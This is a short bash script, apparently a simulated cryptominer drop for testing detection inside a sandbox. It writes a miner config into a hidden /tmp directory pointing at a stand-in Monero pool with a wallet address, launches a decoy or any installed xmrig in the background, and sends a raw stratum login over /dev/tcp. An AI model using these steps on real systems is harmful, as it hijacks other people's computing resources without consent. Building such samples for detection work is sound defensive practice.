#!/bin/bash
# SPDX-License-Identifier: MIT
# A cryptominer drop: the miner's configuration pointing at a Monero pool
# over stratum, the miner started with the pool on its command line, and
# the pool's log-in sent by hand where the miner is missing.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
wallet=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
dir=/tmp/.xmr
mkdir -p "$dir"
cat > "$dir/config.json" <<JSON
{"autosave": true, "cpu": {"enabled": true, "max-threads-hint": 75},
 "pools": [{"url": "stratum+tcp://pool.minexmr.example.net:4444", "user": "$wallet",
            "pass": "x", "keepalive": true, "tls": false}]}
JSON
cp /bin/sleep "$dir/xmrig"
"$dir/xmrig" 0.1 -o stratum+tcp://pool.minexmr.example.net:4444 -u "$wallet" -p x -k --donate-level 1 -B 2>/dev/null
/usr/local/bin/xmrig -c "$dir/config.json" 2>/dev/null
exec 3<> /dev/tcp/pool.minexmr.example.net/4444 || exit 0
printf '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"%s","pass":"x","agent":"XMRig/6.21.0"}}\n' "$wallet" >&3
read -r -t 1 job <&3
exec 3>&-
exit 0
